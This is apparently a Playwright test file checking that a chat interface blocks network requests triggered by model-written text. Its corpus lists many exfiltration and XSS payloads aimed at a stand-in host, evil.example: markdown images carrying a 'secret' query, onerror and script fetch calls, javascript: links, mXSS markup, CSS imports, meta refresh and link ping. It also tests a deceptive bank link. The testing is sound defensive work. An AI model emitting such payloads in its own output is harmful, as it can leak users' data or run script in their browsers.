"""What models and APIs write cannot make the browser ask anybody anything (THREATS X)."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.async_api import expect

from actionry.models.scripted import Scripted, says
from actionry.server.models import FixedModels
from support.browser import browsing

pytestmark = pytest.mark.slow

HOST = "https://evil.example"
CORPUS = (
    f"![a]({HOST}/?q=secret)",
    f"![a][r]\n\n[r]: {HOST}/ref.png",
    f"[![a]({HOST}/nested.png)]({HOST}/)",
    f'<img src="{HOST}/i.png">',
    f"<img src=x onerror=\"fetch('{HOST}/onerror')\">",
    f'<picture><source srcset="{HOST}/s.png"><img src="{HOST}/p.png"></picture>',
    f'<div style="background:url({HOST}/css.png)">styled</div>',
    f"<style>@import url({HOST}/import.css); body {{ background: url({HOST}/body.png) }}</style>",
    f'<link rel="prefetch" href="{HOST}/prefetch"><link rel="dns-prefetch" href="//evil.example">',
    f'<link rel="stylesheet" href="{HOST}/s.css"><link rel="icon" href="{HOST}/favicon.ico">',
    f'<svg><image href="{HOST}/svg.png"/><use href="{HOST}/u.svg#a"/></svg>',
    f'<iframe src="{HOST}/frame"></iframe><object data="{HOST}/o"></object><embed src="{HOST}/e">',
    f'<video src="{HOST}/v" poster="{HOST}/poster" autoplay></video><audio src="{HOST}/a" autoplay></audio>',
    f'<meta http-equiv="refresh" content="0;url={HOST}/meta"><base href="{HOST}/">',
    f'<form action="{HOST}/form"><input autofocus onfocus="this.form.submit()"></form>',
    f"<script>fetch('{HOST}/script')</script>",
    f"[x](javascript:fetch('{HOST}/js')) [y](data:text/html,<script>1</script>) [z](vbscript:x)",
    f'![svg](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="{HOST}/d.png"/></svg>)',
    f"```mermaid\ngraph LR; A[<img src='{HOST}/m.png'>]\n```",
    f"$\\includegraphics{{{HOST}/tex.png}}$",
    f"<math><mtext><table><mglyph><style><img src=x onerror=fetch('{HOST}/mxss')>",
    f"Footnote[^1]\n\n[^1]: ![f]({HOST}/foot.png)",
    f"| a |\n|---|\n| ![t]({HOST}/table.png) |",
    f"<a href='{HOST}/ping' ping='{HOST}/pinged'>ping</a>",
)
"""Each in a message of its own: one that breaks the reader must not hide the others."""


@pytest.mark.row("X-01", "X-04", "X-10")
async def test_nothing_leaves_the_browser(tmp_path: Path) -> None:
    model = Scripted(says("\n\n".join(CORPUS) + "\n\nThe end."), name="scripted")
    async with browsing(tmp_path, models=FixedModels(model)) as visitor:
        page = await visitor.open()
        await page.evaluate(
            "document.addEventListener('securitypolicyviolation', e => console.error('Content Security', e.blockedURI))"
        )
        await page.get_by_role("textbox", name="Your message").fill("Say it all")
        await page.keyboard.press("Enter")
        await expect(page.get_by_text("The end.")).to_be_visible()
        await expect(page.get_by_role("link", name="Load from evil.example").first).to_be_visible()
        for _ in range(8):
            await page.mouse.wheel(0, 700)
        assert visitor.strangers() == []
        assert visitor.troubles == []
        inside = page.locator("article").locator(
            "script, style, iframe, object, embed, form, link, video, audio, svg image, [style*=url], [onerror], img"
        )
        assert await inside.count() == 0
        hrefs = await page.locator("article a").evaluate_all("all => all.map(a => a.protocol)")
        assert set(hrefs) <= {"https:", "http:"}


@pytest.mark.row("X-11")
async def test_a_link_that_names_another_host_asks_first(tmp_path: Path) -> None:
    text = f"[https://bank.example]({HOST}/login) and [read more]({HOST}/more) and <{HOST}/plain>"
    async with browsing(tmp_path, models=FixedModels(Scripted(says(text)))) as visitor:
        page = await visitor.open()
        await page.get_by_role("textbox", name="Your message").fill("Links, please")
        await page.keyboard.press("Enter")
        await page.get_by_role("button", name="https://bank.example").click()
        await expect(page.get_by_role("dialog")).to_contain_text("leads to evil.example")
        await page.get_by_role("button", name="Stay here").click()
        await expect(page.get_by_text("(evil.example)")).to_have_count(1)
        assert visitor.strangers() == []
